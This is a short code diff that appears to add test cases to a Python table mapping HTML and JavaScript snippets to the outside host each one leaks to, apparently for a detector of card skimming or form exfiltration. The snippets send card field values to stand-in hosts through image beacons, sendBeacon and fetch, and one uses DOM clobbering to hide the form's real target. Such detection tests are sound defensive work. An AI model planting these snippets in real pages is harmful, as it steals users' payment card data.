@@ -232,6 +232,10 @@ LEADING = {
     scripted(
         "event.preventDefault(); if (this.card.value.length === 16) fetch('https://liked.example/', {method: 'POST'})"
     ): "liked.example",
+    scripted("new Image().src = 'https://pictured.example/1.gif?' + this.card.value"): "pictured.example",
+    scripted("onpagehide = () => navigator.sendBeacon('https://left.example/')"): "left.example",
+    "<script>Document.prototype.querySelectorAll = () => []</script>"
+    "<form action='https://named.example/'><input name=elements><input name=getAttribute></form>": "named.example",
     scripted("this.action = 'https://turned.example/'"): "turned.example",
     THEIRS.format("<button type=button onclick=\"fetch('https://clicked.example/', {method: 'POST'})\">go</button>"):
         "clicked.example",
